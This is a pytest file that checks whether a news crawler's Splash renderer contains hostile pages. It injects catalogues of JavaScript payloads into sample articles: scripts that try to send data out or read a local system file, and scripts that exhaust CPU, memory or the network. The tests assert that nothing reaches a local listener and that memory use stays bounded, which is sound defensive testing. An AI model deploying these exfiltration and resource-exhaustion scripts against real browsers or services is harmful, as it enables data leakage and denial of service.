"""Hostile pages in Splash: nothing leaves, every page has its outcome, and the crawler stays small."""

from __future__ import annotations

import pytest

from sample_site.render_article import render_article
from sample_site.server import SampleServer
from sample_site.site import FORBIDDEN_FOLDER
from tests.conftest import Crawler
from tests.hostile.watching import MOST_MEMORY, Elsewhere
from tests.splash import splash
from vovcrawl.visits import RENDERED, UNRENDERED

pytestmark = pytest.mark.long

_WORKER = "new Worker(URL.createObjectURL(new Blob([\"new WebSocket('{ws}'); importScripts('{http}w.js');"
_WORKER += " var x = new XMLHttpRequest(); x.open('GET', '{http}x'); x.send()\"])))"
_FRAME = "var f = document.body.appendChild(document.createElement('iframe')); var d = f.contentDocument;"

LEAKING = {
    "a request": "var x = new XMLHttpRequest(); x.open('POST', '{http}'); x.send('all')",
    "a synchronous request": "var x = new XMLHttpRequest(); x.open('GET', '{http}', false); x.send()",
    "a script": "document.head.appendChild(document.createElement('script')).src = '{http}a.js'",
    "a picture": "new Image().src = '{http}a.png'",
    "a style sheet": "document.write('<style>@import \"{http}a.css\"; body {{ background: url({http}b) }}</style>')",
    "links that fetch": ("document.write('<link rel=prefetch href={http}a><link rel=icon href={http}b>')"),
    "a player": "document.write('<video src={http}a.mp4 autoplay></video><audio src={http}b.mp3 autoplay></audio>')",
    "a plugin": "document.write('<object data={http}a></object><embed src={http}b><applet codebase={http}></applet>')",
    "a WebSocket": "new WebSocket('{ws}')",
    "an event source": "new EventSource('{http}')",
    "a worker": _WORKER,
    "a frame": "document.write('<iframe src={http}></iframe>')",
    "a WebSocket of a frame": _FRAME + "new f.contentWindow.WebSocket('{ws}')",
    "a page in a frame": _FRAME + "d.open(); d.write('<script>new WebSocket(\"{ws}\")</scr' + 'ipt>'); d.close()",
    "a window": "window.open('{http}')",
    "a file": "document.write('<a id=a href={http}a.zip download>a</a>'); document.getElementById('a').click()",
    "a ping": "document.write('<a id=a href=# ping={http}>a</a>'); document.getElementById('a').click()",
    "another page": "location = '{http}'",
    "a form": "document.write('<form action={http} method=post></form>'); document.forms[0].submit()",
    "a refresh": "document.write('<meta http-equiv=refresh content=\"0;url={http}\">')",
    "a file of this machine": "document.head.appendChild(document.createElement('script')).src = 'file:///etc/hostname'",
    "questions": "alert(1); confirm(2); prompt(3); print()",
}

COSTLY = {
    "without end": ("while (true) {}", UNRENDERED),
    "ever more memory": ("var a = []; while (true) a.push(new Array(1e6).join('x' + a.length))", UNRENDERED),
    "ever more elements": (
        "setInterval(function () { document.body.appendChild(document.createElement('b')) }, 5)",
        RENDERED,
    ),
    "a text of 32 MB": (
        "var t = 'x'; for (var i = 0; i < 25; i++) t += t; document.body.appendChild(document.createTextNode(t))",
        UNRENDERED,
    ),
    "so many requests": (
        "for (var i = 0; i < 500; i++) { var x = new XMLHttpRequest(); x.open('GET', '/api/' + i); x.send() }",
        RENDERED,
    ),
}


def pages_with(site: SampleServer, scripts: list[str]) -> list[str]:
    """The urls of articles of the site, in each of whose pages one of the scripts stands."""
    stories = [
        story
        for story in site.site.newest
        if story.kind == "article" and story.template.startswith("drupal") and FORBIDDEN_FOLDER not in f"/{story.path}/"
    ]
    found = []
    for story, script in zip(stories, scripts, strict=False):
        page = render_article(story, site.site)
        at = page.rindex("</body>")
        site.answer(story.url.removeprefix("https://vov.vn"), body=f"{page[:at]}<script>{script}</script>{page[at:]}")
        found.append(story.url)
    assert len(found) == len(scripts)
    return found


def rendering() -> tuple[str, ...]:
    """The options of a crawl that has Splash render every article."""
    settings = (
        "VOV_RENDER=splash",
        f"SPLASH_URL={splash().url}",
        "VOV_RENDER_KINDS=article,photo",
        "VOV_RENDER_TIMEOUT=15",
    )
    return tuple(part for setting in settings for part in ("-s", setting))


def test_nothing_that_a_rendered_page_tries_leaves_the_newspaper(crawl: Crawler, site: SampleServer) -> None:
    with Elsewhere() as elsewhere:
        http, ws = f"http://127.0.0.1:{elsewhere.port}/", f"ws://127.0.0.1:{elsewhere.port}/"
        urls = pages_with(site, [script.format(http=http, ws=ws) for script in LEAKING.values()])
        ended = crawl(f"urls={','.join(urls)}", *rendering())
    assert elsewhere.contacts == 0
    assert ended.status == 0, ended.log
    assert ended.addresses() >= set(urls)
    assert "'vov/render/rendered'" in ended.log


@pytest.mark.parametrize(("script", "outcome"), COSTLY.values(), ids=COSTLY.keys())
def test_a_page_that_is_costly_to_render_is_read_and_the_crawler_stays_small(
    crawl: Crawler, site: SampleServer, script: str, outcome: str
) -> None:
    bad, healthy = pages_with(site, [script, ""])
    ended = crawl(f"urls={bad},{healthy}", *rendering())
    assert ended.status == 0, ended.log
    warnings = {record["canonical_url"]: record["warnings"] for record in ended.records()}
    assert warnings == {bad: [outcome], healthy: [RENDERED]}, ended.log
    assert len([one for one in site.requests if one.path.startswith("/api/")]) <= 60
    peak = int(ended.log.partition("'memusage/max': ")[2].partition(",")[0])
    assert peak < MOST_MEMORY * 1_000_000
